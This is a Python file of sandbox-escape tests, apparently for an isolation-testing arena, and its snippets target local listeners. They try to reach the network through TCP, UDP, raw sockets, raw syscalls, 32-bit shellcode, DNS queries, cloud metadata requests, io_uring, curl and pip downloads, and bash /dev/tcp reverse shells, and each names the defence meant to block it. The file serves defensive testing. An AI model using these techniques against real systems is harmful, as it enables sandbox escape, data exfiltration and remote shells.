"""Attacks that want to reach something outside. What would go to the world goes to the listeners of the arena."""

from __future__ import annotations

from attack import Attack, code

STOPPED = "seccomp, Landlock (TCP), namespaces"
CALLS = """
import ctypes, platform, struct
libc = ctypes.CDLL(None, use_errno=True)
SOCKET, CONNECT, SENDTO, EXECVE, EXECVEAT = {
    "x86_64": (41, 42, 44, 59, 322), "aarch64": (198, 203, 206, 221, 281)}[platform.machine()]
def call(number, *arguments):
    return libc.syscall(*(word if isinstance(word, bytes) else ctypes.c_long(word) for word in (number, *arguments)))
here = struct.pack("=H", 2) + struct.pack(">H", facts["port"]) + bytes([127, 0, 0, 1]) + bytes(8)
"""
TCP = """
import socket, urllib.request, http.client, asyncio, concurrent.futures
port, got = facts["port"], []
def by_asyncio():
    async def connect(): (await asyncio.open_connection("127.0.0.1", port))[1].close()
    asyncio.run(connect())
def fast_open():
    with socket.socket() as sock: sock.sendto(b"x", 0x20000000, ("127.0.0.1", port))
def bound_first():
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0)); sock.connect(("127.0.0.1", port))
def mapped():
    with socket.socket(socket.AF_INET6) as sock: sock.connect(("::ffff:127.0.0.1", port))
def multipath():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as sock: sock.connect(("127.0.0.1", port))
ways = {
    "create_connection": lambda: socket.create_connection(("127.0.0.1", port), timeout=0.2).close(),
    "asyncio": by_asyncio, "TCP fast open": fast_open, "bind": bound_first, "IPv6": mapped, "MPTCP": multipath,
    "http.client": lambda: http.client.HTTPConnection("127.0.0.1", port, timeout=0.2).connect(),
}
for name, way in ways.items():
    try: way(); got.append(name)
    except Exception: pass
return "succeeded: " + ", ".join(got) if got else "nothing"
"""
UDP = """
import socket
sent = []
for kind in (socket.SOCK_DGRAM, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK):
    for protocol in (0, 17, 136):  # UDP-Lite too
        try:
            with socket.socket(socket.AF_INET, kind, protocol) as sock:
                sent.append(sock.sendto(b"x", ("127.0.0.1", facts["port"])))
        except OSError: pass
return "succeeded: sent by UDP" if sent else "nothing"
"""
RAW = """
import socket, struct
echo = struct.pack(">BBHHH", 8, 0, 0xF7FE, 1, 0)
got = []
for kind, protocol in ((socket.SOCK_RAW, 1), (socket.SOCK_RAW, 255), (socket.SOCK_RAW, 17), (socket.SOCK_DGRAM, 1)):
    try:
        with socket.socket(socket.AF_INET, kind, protocol) as sock:
            if protocol == 1: sock.sendto(echo, ("127.0.0.1", 0))
            got.append((int(kind), protocol))
    except OSError: pass
return f"succeeded: {got}" if got else "nothing"
"""
LISTEN = """
import socket
with socket.socket() as server:
    server.bind(("127.0.0.1", 0)); server.listen()
    return f"succeeded: others can connect to {server.getsockname()[1]}"
"""
SYSTEM_CALLS = f"""{CALLS}
got = []
for base in (0, 0x40000000):  # and those of the x32 interface
    for kind in (1, 2):
        fd = call(base | SOCKET, 2, kind, 0)
        if fd < 0: continue
        got.append("socket(2)")
        if call(base | CONNECT, fd, here, len(here)) == 0: got.append("connect(2)")
        if call(base | SENDTO, fd, b"x", 1, 0, here, len(here)) == 1: got.append("sendto(2)")
return f"succeeded: {{got}}" if got else "nothing"
"""
GATE_OF_32_BITS = """
import ctypes, mmap, struct
low = mmap.mmap(-1, 4096, prot=7, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)  # MAP_32BIT
base = ctypes.addressof(ctypes.c_char.from_buffer(low))
low[256:268] = struct.pack("=3I", 2, 1, 0)  # AF_INET, SOCK_STREAM
# push rbx; mov eax, 102 (socketcall); mov ebx, 1 (socket); mov ecx, arguments; int 0x80; pop rbx; ret
low.seek(0); low.write(b"\\x53\\xb8\\x66\\0\\0\\0\\xbb\\1\\0\\0\\0\\xb9" + struct.pack("=I", base + 256) + b"\\xcd\\x80\\x5b\\xc3")
fd = ctypes.CFUNCTYPE(ctypes.c_int)(base)()
return f"succeeded: socket {fd} as a program of 32 bits" if fd >= 0 else str(fd)
"""
DNS = """
import ctypes, socket, struct
got, name = [], b"".join(bytes([len(part)]) + part for part in (b"secret", b"example", b"org")) + b"\\0"
query = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + name + struct.pack(">2H", 16, 1)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock: got.append(sock.sendto(query, ("127.0.0.1", facts["port"])))
except OSError: pass
libc = ctypes.CDLL(None)
libc.__res_state.restype = ctypes.c_void_p
state = libc.__res_state()
if libc.__res_init() == 0:  # struct __res_state, resolv.h: retrans, retry, options, nscount, nsaddr_list
    ctypes.memmove(state, struct.pack("=ii", 1, 1), 8)
    server = struct.pack("=H", 2) + struct.pack(">H", facts["port"]) + bytes([127, 0, 0, 1]) + bytes(8)
    ctypes.memmove(state + 16, struct.pack("=i", 1) + server, 20)
    for resolve in ("res_query", "__res_query"):
        if hasattr(libc, resolve): getattr(libc, resolve)(b"secret.example.org", 1, 16, ctypes.create_string_buffer(512), 512)
return "succeeded: asked a server of names" if got else "nothing"
"""
METADATA = """
import http.client, urllib.request
proxy = urllib.request.ProxyHandler({"http": f"http://127.0.0.1:{facts['port']}"})  # as in many clouds' containers
for path, header in (("latest/meta-data/iam/", "X-aws-ec2-metadata-token"), ("computeMetadata/v1/", "Metadata-Flavor")):
    request = urllib.request.Request(f"http://169.254.169.254/{path}", headers={header: "Google"})
    try: urllib.request.build_opener(proxy).open(request, timeout=0.1)
    except OSError: pass
return "tried"
"""
UNIX = f"""{CALLS}
import os, socket
path, got = facts["unix"], []
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    try:
        with socket.socket(socket.AF_UNIX, kind) as sock:
            sock.settimeout(0.2); sock.connect(path); got.append("connect")
    except OSError: pass
    try:
        with socket.socket(socket.AF_UNIX, kind) as sock: sock.bind(f"\\0attack-{{os.getpid()}}"); got.append("bind")
    except OSError: pass
    try: [end.close() for end in socket.socketpair(socket.AF_UNIX, kind)]; got.append("socketpair")
    except OSError: pass
address = struct.pack("=H", 1) + path.encode() + bytes(1)
fd = call(SOCKET, 1, 1, 0)
if fd >= 0 and call(CONNECT, fd, address, len(address)) == 0: got.append("connect(2)")
return f"succeeded: {{got}}" if got else "nothing"
"""
FAMILIES = f"""{CALLS}
import os, socket
got = set()
for family in range(46):
    for kind, protocol in ((1, 0), (2, 0), (3, 0), (5, 0), (3, 3), (10, 0)):
        try: socket.socket(family, kind, protocol).close(); got.add(family)
        except OSError: pass
        fd = call(SOCKET, family, kind, protocol)
        if fd >= 0: os.close(fd); got.add(family)
return f"succeeded: sockets of the families {{sorted(got)}}" if got else "nothing"
"""
IO_URING = f"""{CALLS}
import mmap, os, time
parameters = ctypes.create_string_buffer(120)
ring = libc.syscall(ctypes.c_long(425), ctypes.c_long(4), parameters)
if ring < 0: return "no ring"
field = lambda offset: struct.unpack_from("=I", parameters.raw, offset)[0]
entries, tail, mask, array, completions = field(0), field(44), field(48), field(64), field(100)
queue = mmap.mmap(ring, 4096, mmap.MAP_SHARED | 0x8000)
requests = mmap.mmap(ring, 4096, mmap.MAP_SHARED | 0x8000, offset=0x10000000)
def submit(opcode, fd, address, offset, length):
    at = struct.unpack_from("=I", queue, tail)[0]
    index = at & struct.unpack_from("=I", queue, mask)[0]
    requests[index * 64 : index * 64 + 64] = struct.pack("=BBHiQQII", opcode, 0, 0, fd, offset, address, length, 0) + bytes(32)
    struct.pack_into("=I", queue, array + 4 * index, index)
    struct.pack_into("=I", queue, tail, at + 1)
    call(426, ring, 1, 1, 1, 0, 0)
    return struct.unpack_from("=i", queue, completions + 16 * at + 8)[0]
fd = submit(45, 2, 0, 1, 0)  # IORING_OP_SOCKET
if fd < 0: return f"no socket: {{fd}}"
address = ctypes.create_string_buffer(here)
submit(16, fd, ctypes.addressof(address), 16, 0)  # IORING_OP_CONNECT
return "succeeded: a socket by io_uring"
"""
INHERITED = """
import os, stat
found = []
for fd in range(5, 1024):
    try: status = os.fstat(fd)
    except OSError: continue
    if stat.S_ISSOCK(status.st_mode): found.append(fd)
return f"succeeded: can write to the sockets {found}" if found else "none"
"""
DOWNLOAD = """
import socket, subprocess, sys, urllib.request
socket.setdefaulttimeout(0.1)
url = f"http://127.0.0.1:{facts['port']}/data.csv"  # torch.hub and the like use urlopen too
def table():
    import pandas
    pandas.read_csv(url)
def source():
    import numpy as np
    np.lib.npyio.DataSource(None).open(url)
options = ["--isolated", "--no-cache-dir", "--disable-pip-version-check", "--timeout", "0.1", "--retries", "0"]
pip = [sys.executable, "-m", "pip", *options, "download", "--index-url", url, "nothing"]
ways = (
    lambda: urllib.request.urlopen(url),
    lambda: urllib.request.urlretrieve(url),
    table,
    source,
    lambda: subprocess.run(["curl", "-m", "0.1", url], check=True),
    lambda: subprocess.run(pip, cwd=facts["folder"], timeout=0.5),
)
for way in ways:
    try: way()
    except Exception: pass
return "tried"
"""
REVERSE_SHELL = f"""{CALLS}
import os, socket, subprocess
port, got = facts["port"], []
def connected():
    with socket.create_connection(("127.0.0.1", port), timeout=0.2) as sock:
        return subprocess.run(["/bin/sh", "-c", "id"], stdin=sock, stdout=sock, stderr=sock, timeout=0.5).returncode == 0
ways = {{
    "a shell on a socket": connected,
    "bash": lambda: subprocess.run(["/bin/bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{{port}}; echo x >&3"]).returncode == 0,
    "system": lambda: os.system("true") == 0,
    "libc's system": lambda: libc.system(b"true") == 0,
    "spawn": lambda: os.spawnl(os.P_WAIT, "/bin/true", "true") == 0,
    "posix_spawn": lambda: os.waitpid(os.posix_spawn("/bin/true", ["true"], {{}}), 0)[1] == 0,
    "popen": lambda: os.popen("echo x").read() == "x\\n",
}}
for name, way in ways.items():
    try:
        if way(): got.append(name)
    except Exception: pass
if got: return "succeeded: a shell by " + ", ".join(got)
empty = struct.pack("P", 0)
program = b"/bin/bash\\0"
buffers = [ctypes.create_string_buffer(word) for word in (
    b"bash", b"-c", f"exec 3<>/dev/tcp/127.0.0.1/{{port}}".encode())]
words = struct.pack("4P", *map(ctypes.addressof, buffers), 0)
call(EXECVE, program, words, empty)  # comes back only when it fails
call(EXECVEAT, -100, program, words, empty, 0)
return "nothing"
"""

ATTACKS: tuple[Attack, ...] = (
    code((129, 137), "connect-by-tcp", STOPPED, TCP),
    code((129,), "send-by-udp", "seccomp, namespaces", UDP),
    code((129,), "open-raw-and-icmp-sockets", "seccomp, user, namespaces", RAW),
    code((129, 137), "listen-for-connections", STOPPED, LISTEN),
    code((129,), "connect-by-system-calls", STOPPED, SYSTEM_CALLS),
    code((129,), "connect-by-the-gate-of-32-bits", "seccomp (kills foreign architectures)", GATE_OF_32_BITS),
    code((130,), "ask-a-server-of-names", "seccomp, namespaces", DNS),
    code((131,), "ask-for-the-clouds-metadata", STOPPED, METADATA),
    code((132,), "connect-by-unix-sockets", "seccomp", UNIX),
    code((133,), "open-sockets-of-every-family", "seccomp", FAMILIES),
    code((134,), "connect-by-io-uring", "seccomp", IO_URING),
    code((135,), "use-an-inherited-socket", "descriptors", INHERITED),
    code((136,), "download-data-and-packages", STOPPED, DOWNLOAD),
    code((137,), "give-a-shell-away", "seccomp", REVERSE_SHELL),
)
UNTESTED: dict[int, str] = {}
